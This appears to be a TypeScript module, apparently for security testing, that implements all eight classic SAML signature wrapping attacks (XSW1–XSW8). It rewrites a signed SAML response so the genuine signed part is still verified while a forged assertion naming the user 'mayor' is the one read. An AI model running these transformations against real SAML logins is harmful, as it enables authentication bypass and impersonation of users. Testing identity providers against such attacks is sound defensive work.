import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/** The eight classic signature wrapping attacks: a genuine signed part is kept where it is verified, an evil one put where it is read. */

interface Parts {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
}

function takeApart(xml: string): Parts {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  return { document, response, assertion: child(response, 'Assertion') };
}

function child(parent: Element, name: string): Element {
  const found = Array.from(parent.childNodes).find((node) => (node as Element).localName === name);
  if (!found) throw new Error(`No ${name}`);
  return found as Element;
}

function without(element: Element, name: string): Element {
  element.removeChild(child(element, name));
  return element;
}

function copyOf(element: Element): Element {
  return element.cloneNode(true) as Element;
}

/** The element now speaks of the attacker's victim. */
function evil(element: Element): Element {
  element.setAttribute('ID', '_evil');
  for (const name of Array.from(element.getElementsByTagName('saml:NameID'))) {
    name.textContent = 'mayor';
  }
  for (const value of Array.from(element.getElementsByTagName('saml:AttributeValue'))) {
    value.textContent = 'mayor';
  }
  return element;
}

type Wrapping = (parts: Parts) => void;

export const wrappings: readonly (readonly [string, Wrapping])[] = [
  [
    'XSW1: the genuine response inside the signature of an evil one',
    ({ response }) => {
      const genuine = without(copyOf(response), 'Signature');
      evil(response);
      child(response, 'Signature').appendChild(genuine);
    },
  ],
  [
    'XSW2: the genuine response before the signature of an evil one',
    ({ response }) => {
      const genuine = without(copyOf(response), 'Signature');
      evil(response);
      response.insertBefore(genuine, child(response, 'Signature'));
    },
  ],
  [
    'XSW3: an evil assertion before the genuine one',
    ({ response, assertion }) => {
      response.insertBefore(evil(without(copyOf(assertion), 'Signature')), assertion);
    },
  ],
  [
    'XSW4: the genuine assertion inside an evil one',
    ({ response, assertion }) => {
      const wrapper = evil(without(copyOf(assertion), 'Signature'));
      response.appendChild(wrapper);
      wrapper.appendChild(assertion);
    },
  ],
  [
    'XSW5: an evil assertion keeps the signature, the genuine one follows',
    ({ response, assertion }) => {
      const genuine = without(copyOf(assertion), 'Signature');
      evil(assertion);
      response.appendChild(genuine);
    },
  ],
  [
    'XSW6: the genuine assertion inside the signature of an evil one',
    ({ assertion }) => {
      const genuine = without(copyOf(assertion), 'Signature');
      evil(assertion);
      child(assertion, 'Signature').appendChild(genuine);
    },
  ],
  [
    'XSW7: an evil assertion inside Extensions',
    ({ document, response, assertion }) => {
      const extensions = document.createElementNS(response.namespaceURI, 'samlp:Extensions');
      extensions.appendChild(evil(without(copyOf(assertion), 'Signature')));
      response.insertBefore(extensions, assertion);
    },
  ],
  [
    'XSW8: the genuine assertion in an Object of the signature of an evil one',
    ({ document, assertion }) => {
      const genuine = without(copyOf(assertion), 'Signature');
      const holder = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object');
      evil(assertion);
      holder.appendChild(genuine);
      child(assertion, 'Signature').appendChild(holder);
    },
  ],
];

export function wrapped(xml: string, wrapping: Wrapping): string {
  const parts = takeApart(xml);
  wrapping(parts);
  return new XMLSerializer().serializeToString(parts.document);
}
